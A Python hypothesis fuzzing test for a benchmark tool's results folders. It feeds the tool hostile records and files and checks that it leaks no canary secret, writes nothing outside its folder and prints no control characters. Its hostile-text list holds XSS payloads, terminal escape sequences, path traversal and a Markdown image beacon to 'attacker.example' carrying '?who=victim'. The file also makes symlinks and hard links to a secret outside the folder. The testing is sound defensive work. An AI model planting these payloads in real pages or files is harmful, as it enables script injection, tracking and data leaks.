"""A fuzzer of results folders (issue 45): hypothesis builds hostile folders from one genuine smoke
run and runs `bench report`, `status`, `check` (against a baseline and --update-baseline) and
`evaluate` over each, in this process through bench.cli.main. Each example changes the genuine
folder in one to three ways:

- a JSON record (status.json, env.json, config.json, evaluation.json, figures.json, training.json,
  a SLURM job's record) given a random JSON value at a random place, or replaced whole;
- text that a terminal, Markdown, HTML or matplotlib would obey (escape sequences, control
  characters, ``![x](https://...)``, ``<img onerror=...>``, ``$\\foo{$``) put into a record or a
  table's cell, or given as the run folder's name or the lock's text;
- a run file (a record, a table, a figure, the checkpoint, the lock) replaced by a symbolic link to
  a canary file outside (a secret, shaped as a valid record so that a reader that followed the link
  would parse it and show it), a hard link to a victim file outside (read as the file it is, never
  written), a link to /dev/zero or to a missing file, a FIFO, a sparse file of 5 GB, a folder, an
  empty file or random bytes.

Each command must then exit 0 (1 for a check that finds worse numbers), or exit 2 with one line on
stderr; no traceback; no terminal control character in its output; the canary's secret nowhere in
its output or in the files the report writes; nothing written outside --results; each command
done within COMMAND_SECONDS.

The examples are derived from a fixed seed (derandomize): CI runs the same FUZZ_EXAMPLES every
time (measured: 60 examples in 21.5-23.6 s on a 2-core machine whose cores were busy with other
work, besides the session's one smoke run, shared with tests/test_hostile_results.py; a random
search of 1,200 more examples, BENCH_FUZZ_SEED 2 to 4, found nothing after the fixes of issue
45). To look for more, set ``BENCH_FUZZ_EXAMPLES`` (e.g. ``BENCH_FUZZ_EXAMPLES=2000 python -m
pytest tests/test_fuzz_results.py``) and, for other examples than CI's, ``BENCH_FUZZ_SEED`` (any
integer: a random search from that seed instead of the fixed one). What it finds fails the test
with the example, reproducible from the same variables.
"""
import contextlib
import functools
import hashlib
import io
import json
import os
import random
import resource
import shutil
import signal
import stat
import time
import traceback

import pytest

hypothesis = pytest.importorskip("hypothesis")
from hypothesis import HealthCheck, given, settings, strategies as st  # noqa: E402

from bench.cli import main  # noqa: E402
from bench.store import results  # noqa: E402

FUZZ_EXAMPLES = 60  # in CI; BENCH_FUZZ_EXAMPLES for more
EXAMPLES = int(os.environ.get("BENCH_FUZZ_EXAMPLES", FUZZ_EXAMPLES))
SEED = os.environ.get("BENCH_FUZZ_SEED")
COMMAND_SECONDS = 60  # a command that takes longer is hung (a FIFO read, an unbounded file)
SECRET = "CANARY-5e1f0c9a-do-not-leak"
CONTROL = [chr(c) for c in (*range(0x00, 0x09), *range(0x0b, 0x20), 0x7f, 0x9b, 0x202e)]

HOSTILE_TEXT = ["\x1b]0;PWNED\x07", "\x1b[2J\x1b[H", "\u202egnp.exe", "ccvae$\\foo{$", "$\\x{",
                "![x](https://attacker.example/beacon.png?who=victim)", "[click](javascript:x)",
                "x)<img src=x onerror=alert(1)>(", "<script>alert(1)</script>", "| a | b |\n# h",
                "```\n~~~", "../../outside/x", "%s%n{0}", "\x00", "é\u0301\U0001f600", ""]
RECORDS = ["status.json", "env.json", "config.json", "evaluation.json", "figures.json",
           "training.json", "jobs/slurm/RUN.json"]
FILES = [*RECORDS[:5], "metrics.csv", "tsne.csv", "swap.csv", "z_usage.csv", "losses.csv",
         "curves.png", "tsne.png", "checkpoint.pt", "LOCK"]
TABLES = ["metrics.csv", "tsne.csv", "swap.csv", "z_usage.csv"]


def texts():
    return st.one_of(st.sampled_from(HOSTILE_TEXT),
                     st.text(st.sampled_from([*CONTROL, "a", "$", "[", "]", "(", ")", "!", "<",
                                              ">", "`", "|", "\\", "{", "\n"]), max_size=12),
                     st.text(max_size=8))


NUMBERS = st.one_of(st.integers(-3, 12), st.sampled_from([10**8, 10**12, 2**63, -2**63, 10**400]),
                    st.floats(allow_nan=True, allow_infinity=True))
SCALARS = st.one_of(st.none(), st.booleans(), NUMBERS, texts())
JSON = st.recursive(SCALARS, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                     st.dictionaries(texts(), inner, max_size=3)),
                    max_leaves=6)


def _places(data, prefix=()):
    """Every (path of keys or indices) into a JSON document, the document itself first."""
    yield prefix
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _places(value, (*prefix, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from _places(value, (*prefix, index))


def _put(data, place, value):
    if not place:
        return value
    inner = data
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = value
    return data


def _path(run_dir, name):
    if name == "LOCK":
        return run_dir.parent.parent / "locks" / f"{run_dir.name}.lock"
    if name.startswith("jobs/"):
        path = run_dir.parent.parent / "jobs" / "slurm" / f"{run_dir.name}.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        return path
    return run_dir / name


def _remove(path):
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


def _read(path):
    """The text of ``path`` if an earlier change left it a plain file of its own (never through a
    link, a FIFO or a victim's hard link), else None."""
    try:
        info = os.lstat(path)
    except OSError:
        return None
    if not stat.S_ISREG(info.st_mode) or info.st_nlink > 1 or info.st_size > 2**24:
        return None
    return path.read_text(errors="replace")


def _write(path, text):
    """``path`` made anew with ``text`` (whatever an earlier change left there removed first)."""
    _remove(path)
    path.write_text(text)


@st.composite
def a_record_changed(draw):
    name = draw(st.sampled_from(RECORDS))
    new = draw(JSON)
    where = draw(st.integers(0, 10**6))

    def apply(run_dir, canary):
        path = _path(run_dir, name)
        try:
            data = json.loads(_read(path))
        except (TypeError, ValueError):
            data = {"run_id": run_dir.name, "job_id": "1", "stdout": "x"}
        places = list(_places(data))
        _write(path, json.dumps(_put(data, places[where % len(places)], new)))
    return f"{name}: a value at place {where} set to {new!r}", apply


@st.composite
def hostile_text_in_a_record(draw):
    name = draw(st.sampled_from(RECORDS[:6]))
    text = draw(texts())
    where = draw(st.integers(0, 10**6))

    def apply(run_dir, canary):
        path = _path(run_dir, name)
        try:
            data = json.loads(_read(path))
        except (TypeError, ValueError):
            data = {}
        strings = [p for p in _places(data) if p and isinstance(_get(data, p), str)]
        keys = [p for p in _places(data) if p and isinstance(p[-1], str)]
        if strings and where % 2:
            _put(data, strings[where % len(strings)], text)
        elif keys:  # a key renamed: the record then holds a field of hostile name
            place = keys[where % len(keys)]
            parent = _get(data, place[:-1])
            parent[text] = parent.pop(place[-1])
        _write(path, json.dumps(data))
    return f"{name}: text {text!r} at place {where}", apply


def _get(data, place):
    for key in place:
        data = data[key]
    return data


@st.composite
def hostile_cell(draw):
    name = draw(st.sampled_from(TABLES))
    value = draw(st.one_of(texts(), NUMBERS.map(str)))
    where = draw(st.integers(0, 10**6))

    def apply(run_dir, canary):
        import csv
        path = run_dir / name
        rows = list(csv.reader(io.StringIO(_read(path) or ""))) or [[""]]
        row = 1 + where % max(len(rows) - 1, 1) if len(rows) > 1 else 0
        rows[row] = rows[row] or [""]
        rows[row][where % len(rows[row])] = value
        out = io.StringIO()
        csv.writer(out).writerows(rows)
        _write(path, out.getvalue())
    return f"{name}: cell {where} set to {value!r}", apply


@st.composite
def a_file_replaced(draw):
    name = draw(st.sampled_from(FILES))
    kind = draw(st.sampled_from(["link to the canary", "hard link to a victim",
                                 "link to /dev/zero", "fifo", "sparse 5 GB", "folder", "empty",
                                 "random bytes", "link to a missing file"]))
    noise = draw(st.binary(max_size=64))

    def apply(run_dir, canary):
        path = _path(run_dir, name)
        path.parent.mkdir(parents=True, exist_ok=True)
        _remove(path)
        if kind == "link to the canary":
            path.symlink_to(canary)
        elif kind == "hard link to a victim":  # bench may read it (a hard link is the file itself)
            os.link(canary.parent / "victim.txt", path)  # but never write into it
        elif kind == "link to /dev/zero":
            path.symlink_to("/dev/zero")
        elif kind == "link to a missing file":
            path.symlink_to(canary.parent / "missing")
        elif kind == "fifo":
            os.mkfifo(path)
        elif kind == "sparse 5 GB":
            with open(path, "wb") as file:
                file.write(b"\x89PNG\r\n\x1a\n" if name.endswith(".png") else b"{")
                file.truncate(5 * 2**30)
        elif kind == "folder":
            path.mkdir()
        else:
            path.write_bytes(b"" if kind == "empty" else noise)
    return f"{name}: replaced by a {kind}", apply


@st.composite
def a_hostile_name(draw):
    text = draw(texts())
    where = draw(st.sampled_from(["run folder", "lock text"]))

    def apply(run_dir, canary):
        if where == "lock text":
            _write(_path(run_dir, "LOCK"), text)
            return
        name = text.replace("/", "_").replace("\x00", "_") or "_"
        run_dir.rename(run_dir.parent / f"x{name}"[:200])
    return f"{where}: {text!r}", apply


CHANGES = st.lists(st.one_of(a_record_changed(), hostile_text_in_a_record(), hostile_cell(),
                             a_file_replaced(), a_hostile_name()), min_size=1, max_size=3)


def snapshot(folder):
    """Every entry under ``folder`` (not following links) and what it holds."""
    seen = {}
    for parent, names, files in os.walk(folder):
        for name in (*names, *files):
            path = os.path.join(parent, name)
            info = os.lstat(path)
            if os.path.islink(path):
                seen[path] = "link -> " + os.readlink(path)
            elif os.path.isfile(path) and info.st_size < 2**20:
                with open(path, "rb") as file:
                    seen[path] = hashlib.sha256(file.read()).hexdigest()
            else:
                seen[path] = (info.st_mode, info.st_size)
    return seen


class Hung(Exception):
    pass


def _hung(signum, frame):
    raise Hung(f"a command ran over {COMMAND_SECONDS} s")


def run(argv):
    """(exit code, stdout, stderr) of ``bench argv`` in this process; a traceback is a failure."""
    out, err = io.StringIO(), io.StringIO()
    previous = signal.signal(signal.SIGALRM, _hung)
    signal.alarm(COMMAND_SECONDS)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(argv)
    except Hung:
        raise
    except SystemExit as exit:  # argparse: not expected here, and never a traceback
        code = exit.code
    except BaseException:  # noqa: BLE001 - what the fuzzer looks for
        pytest.fail(f"bench {' '.join(argv)} raised:\n{traceback.format_exc()}\n"
                    f"stderr: {err.getvalue()}")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def fuzz_base(smoke_results, tmp_path_factory):
    """(the genuine results folder, a baseline of it): the starting point of every example."""
    baseline = tmp_path_factory.mktemp("fuzz-baseline") / "mnist-smoke.csv"
    code, _, err = run(["check", "--results", str(smoke_results), "--update-baseline",
                        "--baseline", str(baseline)])
    assert code == 0, err
    return smoke_results, baseline


@pytest.fixture(scope="module")
def cached_data():
    """bench evaluate loads MNIST on each call; here once (the fuzzer's examples share it)."""
    import bench.cli.evaluate as evaluate
    original = evaluate.load_data
    evaluate.load_data = functools.lru_cache(maxsize=None)(original)
    yield
    evaluate.load_data = original


def _settings():
    chosen = dict(max_examples=EXAMPLES, deadline=None, database=None, print_blob=True,
                  suppress_health_check=list(HealthCheck), report_multiple_bugs=True)
    if os.environ.get("BENCH_FUZZ_SHRINK") == "0":  # a long search: report what it finds at once
        chosen["phases"] = [hypothesis.Phase.explicit, hypothesis.Phase.generate]
    if SEED is None:
        chosen["derandomize"] = True
    return settings(**chosen)


@pytest.mark.usefixtures("cached_data")
def test_no_results_folder_makes_a_command_fail_badly(fuzz_base, tmp_path_factory):
    genuine, baseline = fuzz_base
    started, peak_before = time.perf_counter(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    examples = []

    @_settings()
    @given(changes=CHANGES)
    def example(changes):
        root = tmp_path_factory.mktemp("fuzz")
        directory, outside = root / "results", root / "outside"
        shutil.copytree(genuine, directory, symlinks=True)
        outside.mkdir()
        canary = outside / "secret.json"  # a valid status, env and job record, should one be read
        canary.write_text(json.dumps({"state": "failed", "reason": SECRET, "device": SECRET,
                                      "stdout": SECRET, "job_id": SECRET}))
        (outside / "victim.txt").write_text("a user's file, which bench must never write\n")
        (run_dir,) = results.runs_dir(directory).iterdir()
        said = []
        for description, apply in changes:
            said.append(description)
            apply(run_dir, canary)
            found = [p for p in results.runs_dir(directory).iterdir()]
            run_dir = found[0] if len(found) == 1 else run_dir
        before = snapshot(outside)
        commands = [["status"], ["report"], ["check", "--baseline", str(baseline)],
                    ["check", "--update-baseline", "--baseline", str(root / "new-baseline.csv")],
                    ["evaluate", "--evaluations", "probes"]]
        for argv in commands:
            code, out, err = run([*argv, "--results", str(directory)])
            context = f"{said}: bench {argv[0]} exited {code}\nstdout: {out}\nstderr: {err}"
            allowed = (0, 1, 2) if argv[0] == "check" else (0, 2)
            assert code in allowed, context
            if code == 2:
                lines = err.strip().splitlines()
                assert len(lines) == 1 and lines[0].startswith("bench: error: "), context
            if code == 1:
                assert "check: FAIL" in out, context
            assert "Traceback" not in out + err, context
            assert not any(c in out + err for c in CONTROL if c != "\n"), context
            assert SECRET not in out + err, context
        written = "".join(open(directory / name, errors="replace").read()
                          for name in ("report.md", "report.html") if (directory / name).is_file())
        assert SECRET not in written and "Q0FOQVJZLTVl" not in written, said  # nor its base64
        assert snapshot(outside) == before, said
        assert sorted(os.listdir(root)) in (["outside", "results"],
                                            ["new-baseline.csv", "outside", "results"]), said
        examples.append(said)
        shutil.rmtree(root)

    if SEED is not None:
        example = hypothesis.seed(int(SEED))(example)
    example()
    seconds = time.perf_counter() - started
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before  # kB
    print(f"fuzzer: {len(examples)} examples in {seconds:.1f} s; peak memory grew {grown / 1024:.0f} MB")
    assert grown < 2 * 2**20, f"the process's peak memory grew by {grown / 1024:.0f} MB"
